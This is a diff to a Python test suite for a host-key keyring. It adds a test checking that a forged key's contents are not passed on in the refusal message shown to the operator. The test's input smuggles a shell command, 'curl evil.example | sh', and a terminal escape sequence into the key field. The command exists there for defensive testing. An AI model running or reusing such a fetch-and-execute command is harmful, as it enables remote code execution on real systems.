@@ -55,6 +55,13 @@ def test_what_is_no_key_is_not_replaced(tmp_path: Path, content: bytes) -> None:
     assert (tmp_path / "host-key").read_bytes() == content
 
 
+def test_what_a_stranger_calls_a_key_is_not_told_to_the_operator(tmp_path: Path) -> None:
+    hostile = b'{"key": "ed25519:x; curl evil.example | sh \\u001b[2K", "signature": "%s"}'
+    proof = hostile % base64.b64encode(bytes(64))
+    refused = refusal(Keyring.open(tmp_path), DOCUMENT, proof)
+    assert "curl" not in f"{refused.message} {refused.remedy}"
+
+
 def test_a_key_is_not_followed_to_another_place(tmp_path: Path) -> None:
     HostKey.fresh().save(tmp_path / "elsewhere")
     (tmp_path / "host-key").symlink_to("elsewhere")
